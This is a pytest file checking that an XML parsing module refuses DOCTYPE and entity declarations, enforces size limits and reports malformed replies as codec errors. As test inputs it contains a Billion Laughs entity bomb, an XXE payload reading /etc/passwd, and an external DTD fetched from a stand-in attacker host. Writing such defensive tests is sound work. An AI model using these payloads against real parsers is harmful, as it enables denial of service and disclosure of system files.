"""Parsing what comes from the other side of the wire: DOCTYPE and entities refused, size bounded, every
failure a :class:`CodecError` (never an lxml exception)."""

from __future__ import annotations

import pytest

from cdyb_jxc.exceptions import CodecError, UnsafeXmlError
from cdyb_jxc.wire.xmlsafe import MAX_DOCUMENT_CHARS, child_text, parse_body, parse_text, split_declaration

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<return>&lol3;</return>"""
XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'


@pytest.mark.parametrize(
    "document",
    [
        BILLION_LAUGHS,
        XXE,
        '<!doctype html><html lang="zh"></html>',  # any spelling of the keyword
        "<r><!ENTITY x 'y'></r>",
        '<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>',
    ],
)
def test_doctype_or_entity_declaration_is_refused_before_parsing(document):
    with pytest.raises(UnsafeXmlError, match="reply contains a DOCTYPE or entity declaration"):
        parse_text(document, "reply")


def test_doctype_in_bytes_is_refused_too():
    with pytest.raises(UnsafeXmlError):
        parse_body(XXE.encode("utf-8"), "reply")


def test_doctype_the_text_scan_cannot_see_is_refused_after_parsing():
    # UTF-16 bytes hide the keyword from a byte scan; the parsed document still shows its DOCTYPE
    document = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY a "x">]><r>&a;</r>'

    with pytest.raises(UnsafeXmlError, match="DOCTYPE"):
        parse_body(document.encode("utf-16"), "reply")


def test_undeclared_entity_is_never_resolved():
    with pytest.raises(CodecError, match="not well-formed"):
        parse_text("<r>&xxe;</r>", "reply")


def test_document_over_the_size_limit_is_refused_unparsed():
    document = "<r>" + "x" * MAX_DOCUMENT_CHARS + "</r>"

    with pytest.raises(CodecError, match=f"reply is too large: {len(document)} characters"):
        parse_text(document, "reply")


def test_one_huge_text_node_under_the_size_limit_is_still_refused():
    # the parser keeps libxml2's bound on one text node (no huge-tree mode)
    document = "<r>" + "y" * (11 * 1024 * 1024) + "</r>"

    with pytest.raises(CodecError, match="not well-formed"):
        parse_text(document, "reply")


@pytest.mark.parametrize("document", ["", "   ", "<r>", "<r/><r/>", "not xml", "<r/>\x00"])
def test_malformed_document_is_a_codec_error_naming_what_it_was(document):
    with pytest.raises(CodecError, match=r"^reply "):
        parse_text(document, "reply")


def test_a_str_with_an_encoding_declaration_parses_with_the_declaration_ignored():
    root = parse_text('<?xml version="1.0" encoding="GBK"?>\n<return><retcode>1</retcode>中文</return>')

    assert root.tag == "return"
    assert child_text(root, "retcode") == "1"
    assert root[0].tail == "中文"


@pytest.mark.parametrize(
    ("text", "declared", "body"),
    [
        ('<?xml version="1.0" encoding="GB18030"?><r/>', "GB18030", "<r/>"),
        ("<?xml version='1.0' encoding='utf-8' ?>\n<r/>", "utf-8", "\n<r/>"),
        ('<?xml version="1.0"?><r/>', "", "<r/>"),  # declared, without an encoding
        ("  \n<r/>", None, "<r/>"),  # no declaration
    ],
)
def test_split_declaration_tells_the_declared_encoding_and_the_body(text, declared, body):
    assert split_declaration(text) == (declared, body)


def test_child_text_ignores_namespaces_and_reads_empty_as_none():
    root = parse_text(
        '<ns:return xmlns:ns="urn:x"><ns:retcode>-1</ns:retcode><retmsg/><!-- c --></ns:return>'
    )

    assert child_text(root, "retcode") == "-1"
    assert child_text(root, "retmsg") is None
    assert child_text(root, "dataset") is None
